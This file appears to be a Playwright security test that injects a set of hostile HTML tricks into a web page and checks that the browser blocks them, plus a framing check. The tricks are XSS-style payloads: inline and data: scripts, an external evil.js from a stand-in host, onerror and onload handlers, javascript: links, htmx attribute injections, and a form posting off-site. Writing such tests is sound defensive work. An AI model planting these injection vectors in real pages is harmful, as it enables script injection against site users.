"""What a hostile page tries in a browser (A9). Each trick would set `window.hacked`; the page must stay clean."""

from __future__ import annotations

from typing import Any

TRICKS = """
<script>window.hacked = "inline script"</script>
<script src="data:text/javascript,window.hacked='data script'"></script>
<script src="{elsewhere}/evil.js"></script>
<img src="/none.png" onerror="window.hacked = 'onerror'">
<svg onload="window.hacked = 'onload'"></svg>
<iframe srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>
<object data="data:text/html,<script>parent.hacked='object'</script>"></object>
<base href="{elsewhere}/">
<a id="t-link" href="javascript:window.hacked='link'">x</a>
<button id="t-on" type="button" hx-on:click="window.hacked = 'hx-on'">x</button>
<button id="t-trigger" type="button" hx-get="/sign-in/" hx-trigger="click[window.hacked='filter']" hx-swap="none">x</button>
<button id="t-vals" type="button" hx-get="/sign-in/" hx-vals="js:{{a: (window.hacked = 'vals')}}" hx-swap="none">x</button>
<button id="t-away" type="button" hx-get="{elsewhere}/away" hx-swap="none">x</button>
<form id="t-form" action="{elsewhere}/form" method="post"><input name="a"><button id="t-send">x</button></form>
<p id="t-style" style="color: rgb(1, 2, 3)">x</p>
"""
CLICKS = ("t-link", "t-on", "t-trigger", "t-vals", "t-away", "t-send")
EVAL = """() => setTimeout(() => {
  try { eval('window.hacked = "eval"') } catch (error) { window.refused = error.name }
}, 0)"""


def attack(page: Any, url: str, elsewhere: str) -> list[str]:
    """Open `url` with the tricks written into its HTML (its headers are the server's own); return what the browser said."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    left: list[str] = []

    def infect(route: Any) -> None:
        answer = route.fetch()
        body = answer.text().replace("</main>", TRICKS.format(elsewhere=elsewhere) + "</main>", 1)
        route.fulfill(response=answer, body=body)

    def note(route: Any) -> None:
        left.append(route.request.url)
        route.abort()

    page.route(url, infect)
    page.route(f"{elsewhere}/**", note)
    page.goto(url)
    assert page.locator("#t-on").count() == 1, "the tricks are not on the page"
    for name in CLICKS:
        page.evaluate("name => document.getElementById(name).click()", name)
    page.evaluate(EVAL)
    page.wait_for_timeout(300)
    assert page.evaluate("window.refused") == "EvalError"
    assert page.evaluate("window.hacked") is None, page.evaluate("window.hacked")
    assert page.evaluate("getComputedStyle(document.getElementById('t-style')).color") != "rgb(1, 2, 3)"
    assert page.url == url
    assert left == []
    return said


def framed(page: Any, url: str, elsewhere: str) -> str:
    """Open `url` in a frame of another site; return what the frame shows ("" when the browser refuses)."""
    page.route(
        f"{elsewhere}/frame",
        lambda route: route.fulfill(body=f'<iframe id="f" src="{url}"></iframe>', content_type="text/html"),
    )
    page.goto(f"{elsewhere}/frame")
    page.wait_for_timeout(500)
    frame = next(frame for frame in page.frames if frame != page.main_frame)
    return frame.evaluate("document.body ? document.body.innerText : ''") if frame.url == url else ""
